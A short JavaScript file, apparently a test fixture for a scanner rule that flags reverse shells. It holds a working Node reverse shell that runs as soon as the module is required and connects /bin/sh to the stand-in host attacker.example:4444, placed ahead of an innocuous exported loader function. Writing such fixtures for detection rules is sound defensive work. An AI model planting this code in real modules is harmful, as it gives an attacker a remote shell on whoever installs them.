'use strict';
// Classic Node reverse shell, run on require: a socket to the operator wired to /bin/sh.
(function () {
  const net = require('net');
  const cp = require('child_process');
  // ruleid: code/reverse-shell
  const sh = cp.spawn('/bin/sh', []);
  const client = new net.Socket();
  client.connect(4444, 'attacker.example', function () {
    client.pipe(sh.stdin);
    sh.stdout.pipe(client);
    sh.stderr.pipe(client);
  });
  client.on('error', function () {});
})();

module.exports = function load(file) {
  return require(file);
};
